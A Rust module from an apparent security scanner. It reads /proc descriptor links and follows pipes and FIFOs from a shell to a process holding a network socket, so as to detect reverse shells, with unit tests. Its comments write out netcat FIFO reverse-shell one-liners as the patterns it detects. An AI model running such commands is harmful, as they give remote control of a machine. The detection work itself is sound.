//! A process's descriptors as the scanner needs them: what fds 0-2 are now (to notice stdio rewired
//! after exec), which pipe or FIFO each is (to follow a shell's pipes to the process holding the
//! network socket: `mkfifo f; sh -i < f | nc host 4444 > f`), and which sockets a process holds.
//!
//! Pipes and FIFOs are both identified by `stat(2)` through the fd link: `(st_dev, st_ino)` names the
//! same pipe in every process that holds it (pipefs for anonymous pipes, the file system for FIFOs),
//! which is how both ends are matched up without reading every process's whole fd table.
//!
//! Not procfs: its `fd()` lists a whole table with an allocation per entry, where a pass needs three
//! readlinks per process; whole tables are read (std `read_dir`) only for processes that changed.

use std::collections::HashMap;
use std::path::Path;

use crate::events::Stdio;

/// Upper bound on descriptors read from one process when looking for its sockets (a server can
/// hold tens of thousands; the relay processes this is used for hold a handful).
pub const FDS_MAX_PER_PROCESS: usize = 4096;

/// One standard descriptor, as read this pass: what it refers to (the one fd-target type,
/// `events::Stdio`, as exec events carry it) and, for a pipe or FIFO, the identity that matches its
/// ends across processes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StdFd {
    pub target: Stdio,
    /// Set when the descriptor is a pipe or a FIFO: its identity in every process holding it.
    pub pipe: Option<PipeId>,
}

impl StdFd {
    /// The descriptor a `/proc/<pid>/fd/<fd>` link names ("socket:[123]", "pipe:[45]", "/tmp/f").
    pub fn read(root: &Path, pid: i32, fd: &str, link: &str) -> StdFd {
        let target = crate::proc::parse::parse_fd_link(link);
        StdFd { pipe: pipe_of(root, pid, fd, &target), target }
    }

    /// The socket inode, for a socket.
    pub fn socket_inode(&self) -> Option<u64> {
        match self.target {
            Stdio::Socket { inode, .. } => Some(inode),
            _ => None,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct PipeId {
    pub dev: u64,
    pub ino: u64,
}

/// The socket inode a `socket:[N]` link names.
pub fn socket_inode(link: &str) -> Option<u64> {
    link.strip_prefix("socket:[")?.strip_suffix(']')?.parse().ok()
}

/// Reads the links of fds 0, 1 and 2 of `pid` (three readlinks); `None` for a closed descriptor.
pub fn read_stdio_links(root: &Path, pid: i32) -> [Option<String>; 3] {
    let dir = root.join(pid.to_string()).join("fd");
    [0, 1, 2]
        .map(|fd| Some(std::fs::read_link(dir.join(fd.to_string())).ok()?.to_string_lossy().into_owned()))
}

/// The pipe a descriptor is: an anonymous pipe by its pipefs inode (from the link itself, no system
/// call; dev 0 stands for pipefs), a FIFO by stat(2) through the fd (a file that is a FIFO).
fn pipe_of(root: &Path, pid: i32, fd: &str, target: &Stdio) -> Option<PipeId> {
    match target {
        Stdio::Pipe { inode } => Some(PipeId { dev: 0, ino: *inode }),
        Stdio::File { path } if path.starts_with('/') => {
            let path = root.join(pid.to_string()).join("fd").join(fd);
            crate::proc::files::stat_fifo(&path).map(|(dev, ino)| PipeId { dev, ino })
        }
        _ => None,
    }
}

/// fds 0, 1 and 2 of `pid` with their pipe identities.
pub fn read_stdio(root: &Path, pid: i32) -> [Option<StdFd>; 3] {
    let links = read_stdio_links(root, pid);
    let mut i = 0;
    links.map(|l| {
        let fd = i.to_string();
        i += 1;
        Some(StdFd::read(root, pid, &fd, &l?))
    })
}

/// The socket inodes `pid` holds (bounded by [`FDS_MAX_PER_PROCESS`]).
pub fn socket_inodes(root: &Path, pid: i32) -> Vec<u64> {
    let dir = root.join(pid.to_string()).join("fd");
    let Ok(entries) = std::fs::read_dir(&dir) else {
        return Vec::new();
    };
    entries
        .take(FDS_MAX_PER_PROCESS)
        .filter_map(|e| {
            let link = std::fs::read_link(e.ok()?.path()).ok()?;
            socket_inode(link.to_str()?)
        })
        .collect()
}

/// Every pipe and FIFO `pid` holds, on any descriptor (bounded by [`FDS_MAX_PER_PROCESS`]): how a
/// chain continues through a process that reads a FIFO by name (`cat /tmp/f | sh`).
pub fn pipe_ids(root: &Path, pid: i32) -> Vec<PipeId> {
    let dir = root.join(pid.to_string()).join("fd");
    let Ok(entries) = std::fs::read_dir(&dir) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for e in entries.take(FDS_MAX_PER_PROCESS).flatten() {
        let Ok(link) = std::fs::read_link(e.path()) else { continue };
        let fd = e.file_name();
        if let Some(id) = StdFd::read(root, pid, &fd.to_string_lossy(), &link.to_string_lossy()).pipe {
            if !out.contains(&id) {
                out.push(id);
            }
        }
    }
    out
}

/// Who holds each pipe or FIFO as stdin or stdout, built from one pass's stdio reads.
#[derive(Debug, Default)]
pub struct PipeHolders {
    /// pipe -> (pid, fd) for fds 0 and 1.
    holders: HashMap<PipeId, Vec<(i32, u8)>>,
    /// pid -> its stdin and stdout pipes.
    ends: HashMap<i32, [Option<PipeId>; 2]>,
}

/// A process at the far end of a pipe chain that holds a connected internet socket.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Relay {
    pub pid: i32,
    /// The socket's description ("tcp 10.0.0.5:41234->203.0.113.7:4444 ESTABLISHED").
    pub peer: String,
    /// How many processes the chain went through before reaching it (1: the other end itself).
    pub hops: usize,
}

/// How far a pipe chain is followed: `sh < fifo` <- `cat` <- fifo <- `nc` is two hops.
pub const RELAY_MAX_HOPS: usize = 3;

impl PipeHolders {
    pub fn add(&mut self, pid: i32, stdio: &[Option<StdFd>; 3]) {
        let mut ends = [None, None];
        for (fd, s) in stdio.iter().take(2).enumerate() {
            if let Some(id) = s.as_ref().and_then(|s| s.pipe) {
                self.holders.entry(id).or_default().push((pid, fd as u8));
                ends[fd] = Some(id);
            }
        }
        if ends.iter().any(Option::is_some) {
            self.ends.insert(pid, ends);
        }
    }

    /// Follows `pipe` (one of `from`'s standard descriptors) through the processes holding its other
    /// end as *their* stdin or stdout, and on through the other pipes and FIFOs they hold
    /// (`pipes_of`), until one of them holds a connected internet socket (`remote_socket_of`). A
    /// relay is a process whose stdio is the pipe: a server that merely reads a child's output
    /// through an fd of its own (subprocess with capture) is not one, which keeps a web server's
    /// client sockets out of this.
    pub fn find_relay(
        &self,
        from: i32,
        pipe: PipeId,
        mut remote_socket_of: impl FnMut(i32) -> Option<String>,
        mut pipes_of: impl FnMut(i32) -> Vec<PipeId>,
    ) -> Option<Relay> {
        let mut frontier = vec![(pipe, from)];
        let mut visited = vec![pipe];
        let mut checked = vec![from];
        for hops in 1..=RELAY_MAX_HOPS {
            let mut next = Vec::new();
            for (id, came_from) in frontier {
                for &(pid, fd) in self.holders.get(&id).into_iter().flatten() {
                    if pid == came_from || checked.contains(&pid) {
                        continue;
                    }
                    checked.push(pid);
                    if let Some(peer) = remote_socket_of(pid) {
                        return Some(Relay { pid, peer, hops });
                    }
                    // Continue through the descriptor on the other side of this process, and any
                    // pipe or FIFO it opened by name.
                    let other = self.ends.get(&pid).and_then(|e| e[1 - usize::from(fd)]);
                    let mut onward: Vec<PipeId> = other.into_iter().collect();
                    onward.extend(pipes_of(pid));
                    for o in onward {
                        if !visited.contains(&o) {
                            visited.push(o);
                            next.push((o, pid));
                        }
                    }
                }
            }
            if next.is_empty() {
                break;
            }
            frontier = next;
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::MetadataExt;

    fn fd(link: &str, ino: Option<u64>) -> Option<StdFd> {
        let target = crate::proc::parse::parse_fd_link(link);
        Some(StdFd { target, pipe: ino.map(|ino| PipeId { dev: 9, ino }) })
    }

    #[test]
    fn socket_links() {
        assert_eq!(socket_inode("socket:[12345]"), Some(12345));
        assert_eq!(socket_inode("pipe:[12345]"), None);
        assert_eq!(socket_inode("socket:[x]"), None);
    }

    /// `mkfifo f; cat f | sh -i 2>&1 | nc h 4444 > f`: sh(10) stdin <- pipe A <- cat(11) stdin <-
    /// fifo F <- nc(12) stdout; sh stdout -> pipe B -> nc stdin. nc holds the socket.
    fn fifo_shell() -> PipeHolders {
        let mut h = PipeHolders::default();
        h.add(10, &[fd("pipe:[1]", Some(1)), fd("pipe:[2]", Some(2)), fd("pipe:[2]", Some(2))]);
        h.add(11, &[fd("/tmp/f", Some(3)), fd("pipe:[1]", Some(1)), None]);
        h.add(12, &[fd("pipe:[2]", Some(2)), fd("/tmp/f", Some(3)), None]);
        h
    }

    #[test]
    fn follows_pipes_and_fifos_to_the_socket_holder() {
        let h = fifo_shell();
        let sock = |pid: i32| (pid == 12).then(|| "tcp 1.2.3.4:5->6.7.8.9:4444 ESTABLISHED".to_string());
        let stdout = h.find_relay(10, PipeId { dev: 9, ino: 2 }, sock, |_| vec![]).unwrap();
        assert_eq!((stdout.pid, stdout.hops), (12, 1));
        let stdin = h.find_relay(10, PipeId { dev: 9, ino: 1 }, sock, |_| vec![]).unwrap();
        assert_eq!((stdin.pid, stdin.hops), (12, 2), "through cat and the fifo");
    }

    #[test]
    fn no_relay_without_a_socket_or_through_non_stdio_holders() {
        let h = fifo_shell();
        assert_eq!(h.find_relay(10, PipeId { dev: 9, ino: 1 }, |_| None, |_| vec![]), None);
        // A server (20) reading a child's (21) output through fd 7 is not in the holders at all.
        let mut h = PipeHolders::default();
        h.add(21, &[None, fd("pipe:[5]", Some(5)), None]);
        assert_eq!(h.find_relay(21, PipeId { dev: 9, ino: 5 }, |_| Some("tcp x".into()), |_| vec![]), None);
    }

    #[test]
    fn follows_a_fifo_opened_by_name() {
        // `cat f | sh -i | nc h p > f`: cat(11) reads the FIFO through fd 3, not its stdin.
        let mut h = PipeHolders::default();
        h.add(10, &[fd("pipe:[1]", Some(1)), fd("pipe:[2]", Some(2)), None]);
        h.add(11, &[fd("/dev/null", None), fd("pipe:[1]", Some(1)), None]);
        h.add(12, &[fd("pipe:[2]", Some(2)), fd("/tmp/f", Some(3)), None]);
        let sock = |pid: i32| (pid == 12).then(|| "tcp x".to_string());
        let by_name = |pid: i32| if pid == 11 { vec![PipeId { dev: 9, ino: 3 }] } else { vec![] };
        let r = h.find_relay(10, PipeId { dev: 9, ino: 1 }, sock, by_name).unwrap();
        assert_eq!((r.pid, r.hops), (12, 2));
        assert_eq!(h.find_relay(10, PipeId { dev: 9, ino: 1 }, sock, |_| vec![]), None);
    }

    #[test]
    fn reads_real_pipes() {
        let dir = tempfile::tempdir().unwrap();
        let fifo = dir.path().join("f");
        assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
        // sleep's stdin is the fifo (opened read-write so open does not block), stdout a pipe.
        let mut child = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!("exec sleep 5 <>{}", fifo.display()))
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(200));
        let got = read_stdio(Path::new("/proc"), child.id() as i32);
        child.kill().unwrap();
        child.wait().unwrap();
        let stdin = got[0].clone().unwrap();
        assert_eq!(stdin.target, Stdio::File { path: fifo.display().to_string() });
        let meta = std::fs::metadata(&fifo).unwrap();
        assert_eq!(stdin.pipe, Some(PipeId { dev: meta.dev(), ino: meta.ino() }));
        let stdout = got[1].clone().unwrap();
        let Stdio::Pipe { inode: stdout_ino } = stdout.target else { panic!("{stdout:?}") };
        assert_eq!(stdout.pipe, Some(PipeId { dev: 0, ino: stdout_ino }));
    }
}
